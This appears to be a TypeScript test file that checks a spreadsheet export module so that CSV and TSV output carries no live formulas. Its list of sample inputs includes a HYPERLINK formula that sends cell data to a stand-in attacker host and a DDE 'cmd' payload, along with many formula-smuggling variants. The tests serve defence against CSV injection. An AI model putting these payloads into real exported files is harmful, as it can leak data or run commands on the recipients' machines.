import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { isFormula, writeCsv, writeTsv } from "../../src/page/spreadsheet.ts";

/** A reader of separated values as spreadsheets have it: a cell that begins with a quotation mark ends with the next. */
function cellsRead(text: string, separator: string): string[] {
  const cells: string[] = [];
  const cell = new RegExp(`(?:"((?:[^"]|"")*)"?)?([^${separator}\r\n]*)(?:${separator}|\r?\n|\r|$)`, "y");
  while (cell.lastIndex < text.length) {
    const [, quoted = "", rest = ""] = cell.exec(text)!;
    cells.push(quoted.replaceAll('""', '"') + rest);
  }
  return cells;
}

/** What a spreadsheet works out: text behind a sign, or one of more than a number. */
const isWorkedOut = (cell: string) => /^\s*[=@＝＠].*\S|^\s*[+\-＋－](?!\d*[.,]?\d*\s*$).*\S/su.test(cell);

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1)',
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(A1:A9)",
  " =1+1",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "\u00a0=1+1",
  "＝1+1",
  '"=1+1"',
  '"\t=1+1',
  "plain;=1+1",
  'plain;"=1+1',
  "plain\t=1+1",
  "plain\n=1+1",
  "plain; +1+1",
];

describe("a spreadsheet is given no formula", () => {
  test.each(FORMULAS)("%j", (text) => {
    const rows = [["first", text, "last"], [text]];
    for (const [written, separators] of [
      [writeCsv(rows), [",", ";", "\t"]],
      [writeTsv(rows), ["\t", ";"]],
    ] as const)
      for (const separator of separators)
        expect(cellsRead(written, separator).filter(isWorkedOut)).toEqual([]);
  });

  test("whatever the cells", () => {
    const cell = fc
      .array(fc.constantFrom("=", "+", "-", "@", ";", ",", '"', "\t", "\n", "\r", " ", "1", "a", "'"))
      .map((parts) => parts.join(""));
    fc.assert(
      fc.property(fc.array(fc.array(cell, { minLength: 1, maxLength: 3 }), { minLength: 1 }), (bare) => {
        const rows = bare.map((cells) => ["name", ...cells]);
        expect(cellsRead(writeCsv(rows), ",").filter(isWorkedOut)).toEqual([]);
        expect(cellsRead(writeCsv(rows), ";").filter(isWorkedOut)).toEqual([]);
        expect(cellsRead(writeTsv(rows), "\t").filter(isWorkedOut)).toEqual([]);
      }),
      { numRuns: 2_000 },
    );
  });
});

test.each(["-2", "+3", "-0.5", "-1,5", "R>=some", "a - b", "1 = 1", "–3"])("%j stays as it is", (text) => {
  expect(isFormula(text)).toBe(false);
  expect(writeTsv([[text]])).toBe(text);
});

test("numbers stay numbers", () => {
  expect(writeCsv([["state", -3, 2.5]])).toBe("state,-3,2.5\r\n");
});

test("tabs and lines in a cell copied make no other cells, and a quotation mark takes none in", () => {
  expect(
    writeTsv([
      ["a\tb", "c\nd"],
      ['"e', "f"],
    ]),
  ).toBe('a b\tc d\n"""e"\tf');
});
